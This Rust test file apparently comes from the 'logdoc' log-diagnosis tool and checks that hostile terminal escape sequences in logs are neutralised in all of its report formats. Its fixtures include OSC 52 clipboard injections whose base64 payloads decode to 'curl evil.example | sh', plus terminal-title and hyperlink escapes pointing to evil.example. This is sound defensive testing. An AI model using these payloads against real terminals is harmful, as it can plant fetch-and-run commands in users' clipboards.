//! Hostile bytes (issue #6): a log can carry anything a terminal acts on. For every kind of
//! hostile sequence, at the byte level: matching sees the clean text (a known failure line
//! split by the sequence is found, on its own line), no report format carries a control
//! sequence from the log (the text report's only escapes are logdoc's own SGR colours, under
//! `--color always` too), no line is lost, and nothing panics.
//!
//! The cases live in [`cases`]; `tests/fixtures/hostile/*.log` holds each as a file (for
//! trying the TUI by hand, and as a fuzzing corpus). Regenerate them with
//! `LOGDOC_BLESS=1 cargo test --test hostile`. The 50 MB line is generated at test time.

use std::path::{Path, PathBuf};
use std::sync::Arc;

use assert_cmd::Command;
use logdoc::scan::{scan, ScanOptions};
use logdoc::signature::SignatureSet;
use logdoc::source::{open, InputSpec};

const FAILURE: &str = "error: externally-managed-environment";
const ID: &str = "pep668-externally-managed";

/// One hostile line, holding [`FAILURE`] once its hostile bytes are removed.
struct Case {
    name: &'static str,
    line: Vec<u8>,
}

fn case(name: &'static str, parts: &[&[u8]]) -> Case {
    Case {
        name,
        line: parts.concat(),
    }
}

/// Every hostile sequence of the issue, each splitting or surrounding the failure line.
fn cases() -> Vec<Case> {
    vec![
        case("sgr", &[b"error: externally-\x1b[1;31mmanaged\x1b[0m-environment"]),
        case(
            "sgr-256-and-truecolor",
            &[b"\x1b[38;5;208merror\x1b[38;2;255;0;0m: externally-managed-environment\x1b[m"],
        ),
        case(
            "osc52-clipboard-bel",
            &[b"error: \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07externally-managed-environment"],
        ),
        case(
            "osc52-clipboard-st",
            &[b"error: externally-\x1b]52;p;Y3VybCBldmlsLmV4YW1wbGU=\x1b\\managed-environment"],
        ),
        case("osc0-title", &[b"\x1b]0;pwned\x07error: externally-managed-environment"]),
        case("osc2-title", &[b"error: externally-managed-\x1b]2;pwned\x1b\\environment"]),
        case(
            "osc8-hyperlink",
            &[b"error: \x1b]8;;https://evil.example/\x1b\\externally-managed-environment\x1b]8;;\x1b\\"],
        ),
        case(
            "unterminated-osc",
            &[b"error: externally-managed-environment\x1b]8;;https://evil.example/ never closed"],
        ),
        case(
            "csi-cursor-movement",
            &[b"error: \x1b[2Aexternally\x1b[10;5H-managed\x1b[K-env\x1b[3Dironment\x1b[6n"],
        ),
        case(
            "csi-clear-screen",
            &[b"\x1b[2J\x1b[3J\x1b[Herror: externally-managed-environment\x1b[0J"],
        ),
        case(
            "csi-private-modes",
            &[b"\x1b[?1049h\x1b[?25l\x1b[?1000herror: externally-managed-environment\x1b[?2004h"],
        ),
        case(
            "csi-huge-parameters",
            &[b"error: externally-\x1b[", &b"9;".repeat(5000), b"mmanaged-environment"],
        ),
        case(
            "dcs",
            &[b"error: \x1bP1$qm\x1b\\externally-\x1bPq#0;2;0;0;0~-\x1b\\managed-environment"],
        ),
        case(
            "apc-pm-sos",
            &[b"\x1b_Gf=100;cGF5bG9hZA==\x1b\\error: externally-\x1b^pm\x1b\\managed\x1bXsos\x1b\\-environment"],
        ),
        case(
            "esc-sequences",
            &[b"\x1bc\x1b7error: ext\x1b8ernally-\x1b(Bmanaged-\x1b#8environment\x1b="],
        ),
        case("c1-raw-0x9b", &[b"error: externally-\x9bmanaged-environment\x9b"]),
        case(
            "c1-encoded-u009b",
            &["error: externally-\u{9b}managed-environment\u{9b}".as_bytes()],
        ),
        // An encoded C1 introducer is dropped as one character; what follows it stays as
        // inert text, as a UTF-8 terminal shows it.
        case(
            "c1-encoded-osc-u009d",
            &["\u{9d}0;pwned\u{9c} error: externally-managed-environment\u{85}".as_bytes()],
        ),
        case(
            "cr-progress",
            &[b"Downloading 10%\rDownloading 55%\r\x1b[Kerror: externally-managed-environment"],
        ),
        case("crlf", &[b"error: externally-managed-environment\r"]),
        case(
            "backspace",
            &[b"\x08\x08error: externally-managed-environmenX\x08t"],
        ),
        case("tabs", &[b"\terror: externally-managed-environment\tx"]),
        case("nul", &[b"\0error: externally-\0managed-environment\0"]),
        case("bel", &[b"\x07error: externally-managed-environment\x07\x07"]),
        case("del-and-c0", &[b"error: externally-\x7f\x01\x02\x0b\x0c\x0e\x1fmanaged-environment"]),
        case(
            "invalid-utf8",
            &[b"\xff\xfe error: externally-managed-environment \xc3\x28 \xe2\x82"],
        ),
        case(
            "escape-inside-utf8",
            &[b"error: externally-managed-environment \xe2\x1b[31m\x82\xac"],
        ),
        case(
            "docker-json-with-escapes",
            &[br#"{"log":"error: \u001b]52;c;ZXZpbA==\u0007externally-\u001b[31mmanaged\u001b[0m-environment\u009b2J\r\n","stream":"stderr"}"#],
        ),
        case(
            "long-osc-payload",
            &[b"error: externally-managed-environment\x1b]52;c;", &b"QUFB".repeat(16_384), b"\x07"],
        ),
    ]
}

/// A log around one hostile line: the line is line 2 of 3, and the last line has no newline.
fn log_of(case: &Case) -> Vec<u8> {
    let mut log = format!("#1 [internal] load build definition ({})\n", case.name).into_bytes();
    log.extend_from_slice(&case.line);
    log.extend_from_slice(b"\nafter the hostile line");
    log
}

/// Lines as a line-oriented tool counts them: newlines, plus an unterminated last line.
fn line_count(bytes: &[u8]) -> u64 {
    let newlines = bytes.iter().filter(|&&b| b == b'\n').count() as u64;
    newlines + u64::from(!bytes.is_empty() && !bytes.ends_with(b"\n"))
}

fn fixtures_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/hostile")
}

fn builtin() -> Arc<SignatureSet> {
    Arc::new(SignatureSet::builtin().expect("built-in set loads"))
}

fn logdoc() -> Command {
    let mut cmd = Command::cargo_bin("logdoc").expect("binary built");
    cmd.env_remove("NO_COLOR").env("TERM", "xterm-256color");
    cmd
}

/// The SGR parameter lists logdoc's own text report uses.
const OWN_SGR: &[&str] = &["0", "1", "2", "36", "1;31", "1;33", "1;36"];

/// Panics unless `out` is valid UTF-8 whose only control characters are `\n` and, when
/// `own_sgr`, logdoc's own SGR sequences `ESC [ <params> m`.
fn assert_inert(out: &[u8], own_sgr: bool, what: &str) {
    let text = std::str::from_utf8(out).unwrap_or_else(|e| panic!("{what}: not UTF-8: {e}"));
    let bytes = text.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        if b == 0x1b {
            let context = String::from_utf8_lossy(&bytes[i..(i + 24).min(bytes.len())]);
            assert!(own_sgr, "{what}: ESC at byte {i}: {context:?}");
            let rest = &text[i + 1..];
            let params_end = rest
                .strip_prefix('[')
                .and_then(|r| r.find(|c: char| !(c.is_ascii_digit() || c == ';')))
                .unwrap_or_else(|| panic!("{what}: ESC not starting an SGR at {i}: {context:?}"));
            let params = &rest[1..1 + params_end];
            assert_eq!(
                rest.as_bytes().get(1 + params_end),
                Some(&b'm'),
                "{what}: a CSI other than SGR at {i}: {context:?}"
            );
            assert!(
                OWN_SGR.contains(&params),
                "{what}: SGR {params:?} is not one logdoc emits (a colour from the log?)"
            );
            i += 1 + 1 + params_end + 1;
            continue;
        }
        assert!(
            b == b'\n' || (b >= 0x20 && b != 0x7f),
            "{what}: control byte {b:#04x} at {i}: {:?}",
            String::from_utf8_lossy(&bytes[i.saturating_sub(20)..(i + 20).min(bytes.len())])
        );
        i += 1;
    }
    if let Some(c) = text.chars().find(|c| ('\u{80}'..='\u{9f}').contains(c)) {
        panic!("{what}: C1 control {:?} in the output", c);
    }
}

/// Every string in a JSON value is free of control characters (but `\n` in multi-line text).
fn assert_json_inert(value: &serde_json::Value, path: &str) {
    match value {
        serde_json::Value::String(s) => {
            if let Some(c) = s.chars().find(|&c| c != '\n' && c.is_control()) {
                panic!("{path}: control character {c:?} in {s:?}");
            }
        }
        serde_json::Value::Array(items) => {
            for (i, v) in items.iter().enumerate() {
                assert_json_inert(v, &format!("{path}[{i}]"));
            }
        }
        serde_json::Value::Object(map) => {
            for (k, v) in map {
                assert_json_inert(v, &format!("{path}.{k}"));
            }
        }
        _ => {}
    }
}

#[test]
fn fixture_files_match_the_cases() {
    let dir = fixtures_dir();
    let bless = std::env::var_os("LOGDOC_BLESS").is_some();
    if bless {
        std::fs::create_dir_all(&dir).expect("create fixtures dir");
    }
    for case in cases() {
        let path = dir.join(format!("{}.log", case.name));
        let want = log_of(&case);
        if bless {
            std::fs::write(&path, &want).expect("write fixture");
            continue;
        }
        let got = std::fs::read(&path).unwrap_or_else(|e| {
            panic!(
                "{}: {e}; run `LOGDOC_BLESS=1 cargo test --test hostile`",
                path.display()
            )
        });
        assert!(
            got == want,
            "{} is out of date; run `LOGDOC_BLESS=1 cargo test --test hostile`",
            path.display()
        );
    }
}

/// Through the real reading path (file → line reader → sanitiser → engine), case by case.
#[test]
fn each_case_is_found_on_its_line_and_loses_no_line() {
    let set = builtin();
    let dir = tempfile::tempdir().unwrap();
    for case in cases() {
        let bytes = log_of(&case);
        let path = dir.path().join(format!("{}.log", case.name));
        std::fs::write(&path, &bytes).unwrap();
        let input = open(&InputSpec::Path(path)).unwrap();
        let s = scan(input, Arc::clone(&set), &ScanOptions::default(), |_, _| {})
            .unwrap_or_else(|e| panic!("{}: {e}", case.name));
        assert_eq!(s.diagnosis.lines, 3, "{}: line count", case.name);
        let f = s
            .diagnosis
            .findings
            .iter()
            .find(|f| f.id == ID)
            .unwrap_or_else(|| panic!("{}: the failure is not found", case.name));
        assert_eq!(f.first.line, 2, "{}: the failure's line", case.name);
        assert!(
            f.first.text.contains(FAILURE),
            "{}: matched text {:?}",
            case.name,
            f.first.text
        );
        assert!(
            !f.first.text.contains(|c: char| c.is_control()),
            "{}: control character in {:?}",
            case.name,
            f.first.text
        );
    }
}

/// All cases in one log through the binary, in every format.
#[test]
fn no_report_format_carries_a_control_sequence_from_the_log() {
    let all = cases();
    let mut log = Vec::new();
    let mut failure_lines = Vec::new();
    for case in &all {
        log.extend_from_slice(&log_of(case));
        log.push(b'\n');
        failure_lines.push(line_count(&log) - 1);
        // An unknown failure line after each (far enough not to pass for the failure's
        // continuation), so unrecognised lines are shown too.
        log.extend_from_slice(b"padding\npadding\npadding\n");
        log.extend_from_slice(format!("fatal: hostile case {} ", case.name).as_bytes());
        log.extend_from_slice(b"\x1b]0;t\x07\x1b[2J\xc2\x9b \x9b done\n");
    }
    let dir = tempfile::tempdir().unwrap();
    // A file name holding an escape sequence is shown inert too.
    let path = dir.path().join("hostile-\x1b]0;name\x07.log");
    std::fs::write(&path, &log).unwrap();

    let run = |args: &[&str]| {
        let out = logdoc()
            .args(args)
            .arg(&path)
            .output()
            .expect("logdoc runs");
        assert_eq!(
            out.status.code(),
            Some(1),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(
            out.stderr.is_empty(),
            "{args:?}: stderr {:?}",
            String::from_utf8_lossy(&out.stderr)
        );
        out.stdout
    };

    let json = run(&["--format", "json"]);
    assert_inert(&json, false, "json");
    let v: serde_json::Value = serde_json::from_slice(&json).expect("valid JSON");
    assert_json_inert(&v, "json");
    assert_eq!(v["lines"], line_count(&log), "no line is lost");
    let finding = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["id"] == ID)
        .expect("the failure is found");
    let lines: Vec<u64> = finding["lines"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| l.as_u64().unwrap())
        .collect();
    assert_eq!(lines, failure_lines, "every case's failure, on its line");
    assert!(
        !v["unrecognized"].as_array().unwrap().is_empty(),
        "the unknown failure lines are listed"
    );

    let text = run(&["--format", "text", "--color", "never"]);
    assert_inert(&text, false, "text");
    let coloured = run(&["--format", "text", "--color", "always"]);
    assert_inert(&coloured, true, "text --color always");
    assert!(coloured.starts_with(b"\x1b[1m"), "colours are on");
    let markdown = run(&["--format", "markdown"]);
    assert_inert(&markdown, false, "markdown");
    let github = run(&["--format", "github"]);
    assert_inert(&github, false, "github");
    let github = String::from_utf8(github).unwrap();
    assert!(github.lines().all(|l| l.starts_with("::")), "{github}");
}

/// A 50 MB line with no newline, opening with a never-ended OSC, after the failure: read
/// with bounded memory, cut and noted, the failure found, no line lost.
#[test]
fn a_50_mb_line_without_newline() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("fifty.log");
    let mut log = format!("first\n{FAILURE}\n\x1b]52;c;").into_bytes();
    log.resize(log.len() + 50_000_000, b'A');
    std::fs::write(&path, &log).unwrap();
    for args in [
        &["--format", "json"][..],
        &["--format", "text", "--color", "always"][..],
    ] {
        let out = logdoc().args(args).arg(&path).output().unwrap();
        assert_eq!(out.status.code(), Some(1), "{args:?}");
        assert!(
            out.stdout.len() < 64 * 1024,
            "{args:?}: the line is not echoed"
        );
        assert_inert(&out.stdout, args.contains(&"always"), "50 MB line");
        if args.contains(&"json") {
            let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
            assert_eq!(v["lines"], 3);
            assert_eq!(v["findings"][0]["id"], ID);
            assert_eq!(v["findings"][0]["line"], 2);
            let notes = v["notes"].to_string();
            assert!(notes.contains("over-long line"), "{notes}");
        }
    }
    // The same through a pipe.
    let out = logdoc()
        .args(["--format", "json", "-"])
        .pipe_stdin(&path)
        .unwrap()
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["lines"], 3);
    assert_eq!(v["findings"][0]["line"], 2);
}
